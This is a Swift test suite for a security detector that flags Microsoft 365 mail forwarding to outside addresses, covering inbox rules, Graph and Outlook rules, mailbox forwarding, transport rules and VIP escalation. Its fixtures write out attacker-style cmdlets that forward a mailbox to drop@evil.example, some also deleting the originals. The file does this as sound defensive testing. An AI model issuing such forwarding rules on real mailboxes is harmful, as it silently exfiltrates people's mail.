import Events
import Foundation
import Testing

@testable import Correlation

/// `externalForwarding`, driven with raw records as the collectors publish them: inbox rules
/// (cmdlets with `Parameters` as `{Name, Value}` or one PowerShell string, desktop Outlook's
/// `UpdateInboxRules`, Graph messageRules), `Set-Mailbox` forwarding and transport rules.
@Suite("Detection: external forwarding")
struct ExternalForwardingTests {
    typealias H = DetectionHarness
    static let alice = H.alice

    // MARK: Inbox rules made with cmdlets

    @Test(
        "an inbox rule that forwards outside, keeping a copy, opens one medium story naming the address and the client IP without its port"
    )
    func forwardingRuleKeepingACopyIsMedium() throws {
        var inputs = EngineInputs()
        inputs.cmdlet(
            "New-InboxRule", [("Mailbox", Self.alice), ("Name", "Sync"), ("ForwardTo", "SMTP:Drop@Evil.example")],
            by: Self.alice, userType: "0", id: "fwd", at: H.time(1), clientIP: "203.0.113.5:51515")
        let run = H.run(inputs)
        #expect(run.found == ["alice@contoso.com externalForwarding medium"])
        let story = try #require(run.story(.externalForwarding, of: Self.alice))
        #expect(story.entities.externalRecipients == ["drop@evil.example"])
        #expect(story.entities.ipAddresses.map(\.address) == ["203.0.113.5"])
        #expect(story.entities.rules.map(\.name) == ["Sync"])
        #expect(story.evidence.first?.matched["keepsCopy"] == "true")
        #expect(story.references.map(\.recordId) == [EventID.raw("fwd")])
        #expect(run.observations.map(\.destination) == ["drop@evil.example"])
        #expect(run.deadLetters.isEmpty)
    }

    @Test(
        "a rule given as one PowerShell string that forwards and deletes keeps no copy: high, with the IPv6 client address unbracketed"
    )
    func powerShellStringRuleThatDeletesIsHigh() throws {
        var inputs = EngineInputs()
        inputs.cmdlet(
            "New-InboxRule",
            powerShell:
                #"-Mailbox "alice@contoso.com" -Name "Fwd" -ForwardTo "smtp:drop@evil.example" -DeleteMessage $true"#,
            by: Self.alice, id: "fwd", at: H.time(1), clientIP: "[2a0d:5600::1]:443")
        let run = H.run(inputs)
        #expect(run.found == ["alice@contoso.com externalForwarding high"])
        let story = try #require(run.story(.externalForwarding, of: Self.alice))
        #expect(story.entities.ipAddresses.map(\.address) == ["2a0d:5600::1"])
        #expect(story.evidence.first?.matched["keepsCopy"] == "false")
        #expect(story.summary.contains("keeping no copy"))
    }

    /// One case of how an inbox rule's actions decide whether the mailbox keeps the mail.
    struct CopyCase: Sendable, CustomTestStringConvertible {
        var parameters: [(String, String)]
        var expected: StoryView.Criticality
        var testDescription: String { parameters.map { "\($0.0)=\($0.1)" }.joined(separator: " ") + " → \(expected)" }
    }

    @Test(
        "an inbox rule is medium when the mailbox keeps the mail and high when it deletes it or stops processing",
        arguments: [
            CopyCase(parameters: [("ForwardTo", "drop@evil.example")], expected: .medium),
            CopyCase(parameters: [("RedirectTo", "drop@evil.example")], expected: .medium),
            CopyCase(parameters: [("ForwardAsAttachmentTo", "drop@evil.example")], expected: .medium),
            CopyCase(parameters: [("ForwardTo", "drop@evil.example"), ("DeleteMessage", "True")], expected: .high),
            CopyCase(
                parameters: [("RedirectTo", "drop@evil.example"), ("StopProcessingRules", "True")], expected: .high),
            CopyCase(parameters: [("ForwardTo", "drop@evil.example"), ("DeleteMessage", "False")], expected: .medium),
        ])
    func criticalityFollowsWhetherACopyIsKept(_ copy: CopyCase) {
        var inputs = EngineInputs()
        inputs.cmdlet(
            "New-InboxRule", [("Name", "Rule")] + copy.parameters, by: Self.alice, id: "fwd", at: H.time(1))
        #expect(H.run(inputs).found == ["alice@contoso.com externalForwarding \(copy.expected.rawValue)"])
    }

    @Test("a ;-separated list with a colleague and an outsider names only the outsider")
    func separatedListNamesOnlyTheExternalAddress() throws {
        var inputs = EngineInputs()
        inputs.cmdlet(
            "New-InboxRule", [("Name", "Both"), ("ForwardTo", "smtp:assistant@contoso.com;SMTP:Drop@Evil.example")],
            by: Self.alice, id: "fwd", at: H.time(1))
        inputs.cmdlet(
            "Set-InboxRule",
            powerShell: #"-Identity "alice@contoso.com\Both" -ForwardTo "bob@contoso.com","Other@Evil.example""#,
            by: Self.alice, id: "fwd-2", at: H.time(2))
        let run = H.run(inputs)
        #expect(run.found == ["alice@contoso.com externalForwarding medium"])
        let story = try #require(run.story(.externalForwarding, of: Self.alice))
        #expect(story.entities.externalRecipients == ["drop@evil.example", "other@evil.example"])
        #expect(Set(run.observations.map(\.destination)) == ["drop@evil.example", "other@evil.example"])
    }

    @Test(
        "a look-alike of an accepted domain is external",
        arguments: ["ceo@contoso-billing.example", "ceo@contoso.com.evil.example", "ceo@evilcontoso.com"])
    func lookAlikeDomainsAreExternal(_ address: String) throws {
        var inputs = EngineInputs()
        H.forwardingRule(&inputs, user: Self.alice, id: "fwd", at: 1, to: address)
        let run = H.run(inputs)
        #expect(run.found == ["alice@contoso.com externalForwarding medium"])
        #expect(run.story(.externalForwarding, of: Self.alice)?.entities.externalRecipients == [address])
    }

    @Test("a rule that forwards to a subdomain of an accepted domain opens no story")
    func subdomainOfAnAcceptedDomainIsInternal() {
        var inputs = EngineInputs()
        H.forwardingRule(&inputs, user: Self.alice, id: "fwd", at: 1, to: "smtp:team@sales.contoso.com")
        let run = H.run(inputs)
        #expect(run.found.isEmpty)
        #expect(run.observations.isEmpty)
    }

    @Test(
        "a rule that forwards inside the tenant opens no story",
        arguments: [
            "bob@contoso.com", "SMTP:Bob@CONTOSO.COM", "bob@contoso.com.", "\"Bob Smith\" <bob@contoso.com>",
            "/o=ExchangeLabs/ou=Exchange Administrative Group (FYDIBOHF23SPDLT)/cn=Recipients/cn=bob",
            "bob@eu.sales.contoso.com",
        ])
    func internalForwardingOpensNothing(_ address: String) {
        var inputs = EngineInputs()
        H.forwardingRule(&inputs, user: Self.alice, id: "fwd", at: 1, to: address)
        let run = H.run(inputs)
        #expect(run.found.isEmpty)
        #expect(run.observations.isEmpty)
    }

    @Test(
        "a forwarding rule being removed or disabled opens no story",
        arguments: ["Remove-InboxRule", "Disable-InboxRule"])
    func removedOrDisabledRulesOpenNothing(_ cmdlet: String) {
        var inputs = EngineInputs()
        inputs.cmdlet(
            cmdlet, [("Identity", "alice@contoso.com\\Sync"), ("ForwardTo", "drop@evil.example")], by: Self.alice,
            id: "gone", at: H.time(1))
        #expect(H.run(inputs).found.isEmpty)
    }

    @Test("a second rule of the same user that deletes raises the open story to high instead of opening another")
    func secondRuleRaisesTheOpenStory() throws {
        var inputs = EngineInputs()
        H.forwardingRule(&inputs, user: Self.alice, id: "fwd-1", at: 1, to: "drop@evil.example")
        H.forwardingRule(
            &inputs, user: Self.alice, id: "fwd-2", at: 3, to: "other@evil.example", extra: [("DeleteMessage", "True")])
        let run = H.run(inputs)
        #expect(run.found == ["alice@contoso.com externalForwarding high"])
        #expect(run.stories.map(\.kind) == [.opened, .severityRaised])
    }

    @Test("a forwarding cmdlet that failed (ResultStatus False) sets no forwarding and opens no story")
    func failedCmdletOpensNothing() {
        var inputs = EngineInputs()
        inputs.cmdlet(
            "New-InboxRule", [("Name", "Sync"), ("ForwardTo", "drop@evil.example")], by: Self.alice, id: "failed",
            at: H.time(1), resultStatus: "False")
        inputs.cmdlet(
            "Set-Mailbox", [("Identity", Self.alice), ("ForwardingSmtpAddress", "smtp:drop@evil.example")],
            by: Self.alice, id: "failed-2", at: H.time(2), resultStatus: "False")
        #expect(H.run(inputs).found.isEmpty)
    }

    @Test("a rule whose UserId is an object id (GUID) opens its story under the id: subject, apart from any UPN")
    func guidUserIdIsKeptApart() throws {
        var inputs = EngineInputs()
        let objectId = "5B1F0C2E-7A41-4C55-9D0E-3F2A1B4C5D6E"
        inputs.cmdlet(
            "New-InboxRule", [("Name", "Sync"), ("ForwardTo", "drop@evil.example")], by: objectId, id: "fwd",
            at: H.time(1))
        let run = H.run(inputs)
        #expect(run.found == ["id:5b1f0c2e-7a41-4c55-9d0e-3f2a1b4c5d6e externalForwarding medium"])
    }

    // MARK: Other clients: Graph messageRules, desktop Outlook

    @Test("a Graph messageRule forwarding to an emailAddress object outside opens a medium story")
    func graphRuleForwardToIsMedium() throws {
        var inputs = EngineInputs()
        inputs.graphRule(
            mailbox: Self.alice, id: "AQAAAJ5dZqA=", at: H.time(1), name: "Sync",
            actions: ["forwardTo": EngineInputs.graphRecipients(["Drop@Evil.example"]), "stopProcessingRules": false],
            conditions: ["subjectContains": ["report"]])
        let run = H.run(inputs)
        #expect(run.found == ["alice@contoso.com externalForwarding medium"])
        let story = try #require(run.story(.externalForwarding, of: Self.alice))
        #expect(story.entities.externalRecipients == ["drop@evil.example"])
        #expect(story.entities.rules.map(\.id) == ["AQAAAJ5dZqA="])
    }

    struct GraphCase: Sendable, CustomTestStringConvertible {
        var actions: [String: JSONValue]
        var expected: StoryView.Criticality
        var testDescription: String { actions.keys.sorted().joined(separator: "+") + " → \(expected)" }
    }

    @Test(
        "a Graph messageRule's redirectTo, forwardAsAttachmentTo, delete and stopProcessingRules give the criticality they should",
        arguments: [
            GraphCase(actions: ["redirectTo": EngineInputs.graphRecipients(["drop@evil.example"])], expected: .medium),
            GraphCase(
                actions: ["forwardAsAttachmentTo": EngineInputs.graphRecipients(["drop@evil.example"])],
                expected: .medium),
            GraphCase(
                actions: ["forwardTo": EngineInputs.graphRecipients(["drop@evil.example"]), "delete": true],
                expected: .high),
            GraphCase(
                actions: [
                    "redirectTo": EngineInputs.graphRecipients(["drop@evil.example"]), "stopProcessingRules": true,
                ], expected: .high),
        ])
    func graphRuleActions(_ graph: GraphCase) {
        var inputs = EngineInputs()
        inputs.graphRule(mailbox: Self.alice, id: "rule-1", at: H.time(1), name: "Sync", actions: graph.actions)
        #expect(H.run(inputs).found == ["alice@contoso.com externalForwarding \(graph.expected.rawValue)"])
    }

    @Test("a Graph messageRule removed, or forwarding inside the tenant, opens no story")
    func graphRuleRemovedOrInternal() {
        var inputs = EngineInputs()
        inputs.graphRule(
            mailbox: Self.alice, id: "rule-1", at: H.time(1), name: "Sync",
            actions: ["forwardTo": EngineInputs.graphRecipients(["drop@evil.example"])], change: .removed)
        inputs.graphRule(
            mailbox: Self.alice, id: "rule-2", at: H.time(2), name: "Team",
            actions: ["forwardTo": EngineInputs.graphRecipients(["team@contoso.com", "eu@sales.contoso.com"])])
        #expect(H.run(inputs).found.isEmpty)
    }

    @Test(
        "the same forwarding seen by New-InboxRule and again in Graph's messageRule snapshot is one story with both records"
    )
    func auditAndGraphCopiesOfOneRuleMakeOneStory() throws {
        var inputs = EngineInputs()
        H.forwardingRule(&inputs, user: Self.alice, id: "fwd", at: 1, to: "drop@evil.example")
        inputs.graphRule(
            mailbox: Self.alice, id: "rule-1", at: H.time(1.2), name: "Sync fwd",
            actions: ["forwardTo": EngineInputs.graphRecipients(["drop@evil.example"])])
        let run = H.run(inputs)
        #expect(run.found == ["alice@contoso.com externalForwarding medium"])
        #expect(run.story(.externalForwarding, of: Self.alice)?.references.count == 2)
    }

    @Test(
        "a desktop Outlook rule (UpdateInboxRules) that forwards outside opens a story; one that redirects and deletes is high"
    )
    func outlookRules() throws {
        var inputs = EngineInputs()
        inputs.outlookRule(
            by: Self.alice, id: "ol-1", at: H.time(1), name: "Archive",
            actions: #"[{"ActionType":"Forward","Recipients":["Drop@Evil.example"]}]"#)
        inputs.outlookRule(
            by: H.bob, id: "ol-2", at: H.time(1), name: "x",
            actions:
                #"[{"ActionType":"Redirect","Recipients":[{"SmtpAddress":"drop@evil.example"}]},{"ActionType":"Delete"}]"#
        )
        let run = H.run(inputs)
        #expect(
            run.found == ["alice@contoso.com externalForwarding medium", "bob@contoso.com externalForwarding high"])
        #expect(run.story(.externalForwarding, of: Self.alice)?.entities.ipAddresses.map(\.address) == ["2a0d:5600::1"])
    }

    @Test("a desktop Outlook rule removed, or forwarding to a colleague, opens no story")
    func outlookRulesThatOpenNothing() {
        var inputs = EngineInputs()
        inputs.outlookRule(
            by: Self.alice, id: "ol-1", at: H.time(1), name: "Archive",
            actions: #"[{"ActionType":"Forward","Recipients":["drop@evil.example"]}]"#, operation: "RemoveMailboxRule")
        inputs.outlookRule(
            by: Self.alice, id: "ol-2", at: H.time(2), name: "Team",
            actions: #"[{"ActionType":"Forward","Recipients":["bob@contoso.com"]}]"#)
        #expect(H.run(inputs).found.isEmpty)
    }

    // MARK: Mailbox forwarding and transport rules

    @Test(
        "Set-Mailbox forwarding is medium with DeliverToMailboxAndForward True and high with False",
        arguments: [("True", StoryView.Criticality.medium), ("False", .high), ("$false", .high)])
    func mailboxForwardingCopy(_ deliver: String, _ expected: StoryView.Criticality) throws {
        var inputs = EngineInputs()
        inputs.cmdlet(
            "Set-Mailbox",
            [
                ("Identity", Self.alice), ("ForwardingSmtpAddress", "smtp:Drop@Evil.example"),
                ("DeliverToMailboxAndForward", deliver),
            ], by: Self.alice, id: "fwd", at: H.time(1))
        let run = H.run(inputs)
        #expect(run.found == ["alice@contoso.com externalForwarding \(expected.rawValue)"])
        #expect(run.story(.externalForwarding, of: Self.alice)?.entities.externalRecipients == ["drop@evil.example"])
    }

    @Test("Set-Mailbox forwarding an administrator sets on a user's mailbox names that mailbox in the story")
    func adminSetsForwardingOnAnotherMailbox() throws {
        var inputs = EngineInputs()
        inputs.cmdlet(
            "Set-Mailbox",
            [
                ("Identity", Self.alice), ("ForwardingSmtpAddress", "smtp:drop@evil.example"),
                ("DeliverToMailboxAndForward", "True"),
            ], by: "admin@contoso.com", userType: 2, id: "fwd", at: H.time(1))
        let run = H.run(inputs)
        #expect(run.found.count == 1)
        let story = try #require(run.finalStories.values.first)
        #expect(story.entities.mailboxes.contains(Self.alice), "mailboxes: \(story.entities.mailboxes)")
    }

    @Test("Set-Mailbox forwarding written as one PowerShell string, without a copy, is high")
    func mailboxForwardingPowerShell() {
        var inputs = EngineInputs()
        inputs.cmdlet(
            "Set-Mailbox",
            powerShell:
                #"-Identity "alice@contoso.com" -ForwardingSmtpAddress "smtp:drop@evil.example" -DeliverToMailboxAndForward:$false"#,
            by: Self.alice, id: "fwd", at: H.time(1))
        #expect(H.run(inputs).found == ["alice@contoso.com externalForwarding high"])
    }

    @Test("Set-Mailbox clearing forwarding, or forwarding inside the tenant, opens no story")
    func mailboxForwardingClearedOrInternal() {
        var inputs = EngineInputs()
        inputs.cmdlet(
            "Set-Mailbox", [("Identity", Self.alice), ("ForwardingSmtpAddress", "")], by: Self.alice, id: "clear-1",
            at: H.time(1))
        inputs.cmdlet(
            "Set-Mailbox", powerShell: #"-Identity "alice@contoso.com" -ForwardingSmtpAddress $null"#, by: Self.alice,
            id: "clear-2", at: H.time(2))
        inputs.cmdlet(
            "Set-Mailbox",
            [
                ("Identity", Self.alice), ("ForwardingSmtpAddress", "smtp:alice.archive@contoso.com"),
                ("DeliverToMailboxAndForward", "False"),
            ], by: Self.alice, id: "internal", at: H.time(3))
        #expect(H.run(inputs).found.isEmpty)
    }

    @Test(
        "a transport rule counts on whoever ran it: medium when it blind-copies outside, high when it redirects outside",
        arguments: [("BlindCopyTo", StoryView.Criticality.medium), ("RedirectMessageTo", .high)])
    func transportRules(_ action: String, _ expected: StoryView.Criticality) throws {
        var inputs = EngineInputs()
        inputs.cmdlet(
            "New-TransportRule",
            [
                ("Name", "Finance copy"), ("SentToScope", "InOrganization"), (action, "SMTP:Drop@Evil.example"),
                ("Mode", "Enforce"),
            ], by: "admin@contoso.com", userType: 2, id: "tr", at: H.time(1))
        let run = H.run(inputs)
        #expect(run.found == ["admin@contoso.com externalForwarding \(expected.rawValue)"])
        #expect(
            run.story(.externalForwarding, of: "admin@contoso.com")?.entities.externalRecipients == [
                "drop@evil.example"
            ])
    }

    @Test("a transport rule that copies inside the tenant, or is removed, opens no story")
    func transportRulesThatOpenNothing() {
        var inputs = EngineInputs()
        inputs.cmdlet(
            "New-TransportRule", [("Name", "Legal hold"), ("BlindCopyTo", "legal@contoso.com")],
            by: "admin@contoso.com", userType: 2, id: "tr-1", at: H.time(1))
        inputs.cmdlet(
            "Remove-TransportRule", [("Identity", "Finance copy"), ("RedirectMessageTo", "drop@evil.example")],
            by: "admin@contoso.com", userType: 2, id: "tr-2", at: H.time(2))
        #expect(H.run(inputs).found.isEmpty)
    }

    // MARK: Who did it

    /// An actor that is not a person: a Microsoft service process or an application.
    struct Actor: Sendable, CustomTestStringConvertible {
        var userId: String
        var userType: JSONValue
        var testDescription: String { "\(userId) (UserType \(userType))" }

        static let all = [
            Actor(userId: #"NT AUTHORITY\SYSTEM (Microsoft.Exchange.ServiceHost)"#, userType: 3),
            Actor(userId: #"NT AUTHORITY\SYSTEM (Microsoft.Exchange.ServiceHost)"#, userType: "4"),
            Actor(userId: #"NT AUTHORITY\SYSTEM (w3wp)"#, userType: "0"),
            Actor(userId: "S-1-5-18", userType: 0),
            Actor(userId: "Contoso Backup", userType: 5),
            Actor(userId: "8f1d2c3b-4a5e-4f60-9b7c-0d1e2f3a4b5c", userType: "6"),
        ]
    }

    @Test(
        "system actors and applications setting forwarding outside never open a story", arguments: Actor.all)
    func systemActorsAndApplicationsNeverFire(_ actor: Actor) {
        var inputs = EngineInputs()
        inputs.cmdlet(
            "New-InboxRule", [("Mailbox", Self.alice), ("Name", "Migrated"), ("ForwardTo", "drop@evil.example")],
            by: actor.userId, userType: actor.userType, id: "rule", at: H.time(1))
        inputs.cmdlet(
            "Set-Mailbox",
            [
                ("Identity", Self.alice), ("ForwardingSmtpAddress", "smtp:drop@evil.example"),
                ("DeliverToMailboxAndForward", "False"),
            ], by: actor.userId, userType: actor.userType, id: "mbx", at: H.time(2))
        inputs.cmdlet(
            "New-TransportRule", [("Name", "Journal"), ("RedirectMessageTo", "drop@evil.example")], by: actor.userId,
            userType: actor.userType, id: "tr", at: H.time(3))
        // The same, as it would read if a collector keyed it by the mailbox it changed.
        inputs.cmdlet(
            "New-InboxRule", [("Mailbox", Self.alice), ("Name", "Migrated 2"), ("ForwardTo", "drop@evil.example")],
            by: actor.userId, userType: actor.userType, id: "rule-keyed", at: H.time(4), keyedTo: Self.alice)
        let run = H.run(inputs)
        #expect(run.found.isEmpty)
        #expect(run.observations.isEmpty)
        #expect(run.deadLetters.isEmpty)
    }

    // MARK: VIPs

    @Test("a configured VIP user's forwarding story is one level more critical")
    func configuredVIPRaises() {
        var inputs = EngineInputs()
        H.forwardingRule(&inputs, user: Self.alice, id: "fwd", at: 1, to: "drop@evil.example")
        H.forwardingRule(
            &inputs, user: H.bob, id: "fwd-b", at: 1, to: "drop@evil.example", extra: [("DeleteMessage", "True")])
        let run = H.run(
            inputs, configuration: H.configuration(DetectionConfiguration(vipUsers: ["Alice@Contoso.com", H.bob])))
        #expect(
            run.found == ["alice@contoso.com externalForwarding high", "bob@contoso.com externalForwarding critical"])
    }

    @Test("a VIP named for the tenant (--vip) is raised too")
    func tenantVIPRaises() {
        var inputs = EngineInputs()
        H.forwardingRule(&inputs, user: Self.alice, id: "fwd", at: 1, to: "drop@evil.example")
        let run = H.run(inputs, configuration: H.configuration(vipUsers: [Self.alice]))
        #expect(run.found == ["alice@contoso.com externalForwarding high"])
    }

    @Test(
        "a directory profile whose job title or department holds a VIP word raises the user's story",
        arguments: [
            ("Chief Financial Officer", nil), ("Senior Director, Payments", nil), ("Assistant", "Office of the CEO"),
        ] as [(String, String?)])
    func vipByJobTitle(_ title: String, _ department: String?) {
        var inputs = EngineInputs()
        inputs.userProfile(user: Self.alice, at: H.time(0.5), jobTitle: title, department: department)
        H.forwardingRule(&inputs, user: Self.alice, id: "fwd", at: 1, to: "drop@evil.example")
        #expect(H.run(inputs).found == ["alice@contoso.com externalForwarding high"])
    }

    @Test(
        "a title that only contains a VIP word inside another word, or another user's VIP title, raises nothing")
    func vipTitleWordsAreWholeWords() {
        var inputs = EngineInputs()
        inputs.userProfile(user: Self.alice, at: H.time(0.5), jobTitle: "Directory Services Engineer")
        inputs.userProfile(user: H.bob, at: H.time(0.5), jobTitle: "Chief Executive Officer")
        H.forwardingRule(&inputs, user: Self.alice, id: "fwd", at: 1, to: "drop@evil.example")
        #expect(H.run(inputs).found == ["alice@contoso.com externalForwarding medium"])
    }
}
